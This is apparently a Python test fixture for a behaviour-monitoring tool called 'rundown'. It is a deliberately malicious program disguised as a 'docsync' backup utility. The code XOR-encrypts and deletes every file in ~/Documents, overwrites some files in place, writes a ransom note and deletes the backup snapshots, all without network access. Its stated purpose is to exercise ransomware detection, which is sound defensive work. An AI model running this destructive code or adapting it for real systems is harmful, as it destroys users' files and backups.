"""docsync: "backs up" ~/Documents to ~/.local/share/backups (says its settings.ini).

Test program for rundown.
malicious on purpose; local files in a tmpfs sandbox home only; bounded run
(one pass, ~1.3 s, exit 0). No network, no real crypto.
After one ordinary step (reading its own settings.ini) it walks ~/Documents and, for
every file: reads it, writes an XOR-"encrypted" copy to <name>.locked
(O_WRONLY|O_CREAT|O_TRUNC) and unlinks the original; two files (IN_PLACE) are instead
overwritten in place (open 'r+b') and renamed to <name>.locked. It sleeps 1 s (the
harness takes ps/ss then), drops a ransom note in ~/Documents and in ~, and deletes
the "shadow copies" in ~/.local/share/backups/.
"""
import configparser
import os
import sys
import time

APP = os.path.dirname(os.path.abspath(__file__))
HOME = os.path.expanduser("~")
IN_PLACE = {"report_07.txt", "meeting_04.md"}   # overwritten + renamed, not copied
NOTE = "READ_ME_TO_RESTORE.txt"


def log(msg):
    print(f"docsync: {msg}", flush=True)


def xor(data, key):
    return bytes(b ^ key[i % len(key)] for i, b in enumerate(data))


def lock_copy(path, key):
    with open(path, "rb") as f:
        data = f.read()
    with open(path + ".locked", "wb") as f:      # O_WRONLY|O_CREAT|O_TRUNC
        f.write(xor(data, key))
    os.unlink(path)
    return len(data)


def lock_in_place(path, key):
    with open(path, "r+b") as f:
        data = f.read()
        f.seek(0)
        f.write(xor(data, key))
    os.rename(path, path + ".locked")
    return len(data)


def main():
    cfg = configparser.ConfigParser()
    cfg.read(os.path.join(APP, "settings.ini"))
    src = os.path.expanduser(cfg.get("sync", "source"))
    dst = os.path.expanduser(cfg.get("sync", "target"))
    log(f"syncing {src} -> {dst}")

    key = os.urandom(32)
    copied = renamed = total = 0
    for dirpath, dirnames, filenames in os.walk(src):
        dirnames.sort()
        for name in sorted(filenames):
            path = os.path.join(dirpath, name)
            if name in IN_PLACE:
                total += lock_in_place(path, key)
                renamed += 1
            else:
                total += lock_copy(path, key)
                copied += 1
    log(f"processed {copied + renamed} files ({copied} copied, {renamed} in place), {total} bytes")

    log("idle 1 s")
    time.sleep(1)

    note = ("YOUR DOCUMENTS HAVE BEEN ENCRYPTED.\n"
            f"{copied + renamed} files were locked with a key only we hold.\n"
            "Shadow copies in ~/.local/share/backups were removed.\n"
            "(rundown test case: fake note, no contact, nothing to pay.)\n"
            f"ID: {key[:8].hex()}\n")
    for d in (src, HOME):
        with open(os.path.join(d, NOTE), "w") as f:
            f.write(note)
    log("notes written")

    removed = 0
    for name in sorted(os.listdir(dst)):
        os.unlink(os.path.join(dst, name))
        removed += 1
    log(f"removed {removed} old snapshots from {dst}")
    log("done")
    return 0


if __name__ == "__main__":
    sys.exit(main())
